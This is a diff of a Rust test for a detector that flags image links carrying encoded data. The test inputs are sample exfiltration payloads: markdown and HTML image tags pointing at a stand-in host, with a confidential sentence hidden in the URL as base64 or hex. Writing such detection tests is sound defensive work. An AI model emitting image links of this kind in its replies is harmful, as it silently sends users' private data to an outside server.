@@ -78,7 +78,8 @@ fn text_that_a_picture_carries_is_read_also_when_it_is_encoded() {
     use base64::Engine as _;
     let said = "The board will sell the plant in Ulm next week";
     let coded = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(said);
-    let hex: String = said.bytes().map(|byte| format!("{byte:02x}")).collect();
+    let hex: Vec<String> = said.bytes().map(|byte| format!("{byte:02x}")).collect();
+    let hex = hex.concat();
     fires(LinkKind::Data, &format!("Done! ![ok](https://e.example/p.png?d={coded})"));
     fires(LinkKind::Data, &format!("Done! ![ok](https://e.example/{coded}.png)"));
     fires(LinkKind::Data, &format!("<img src=\"https://e.example/p?d={hex}\">"));
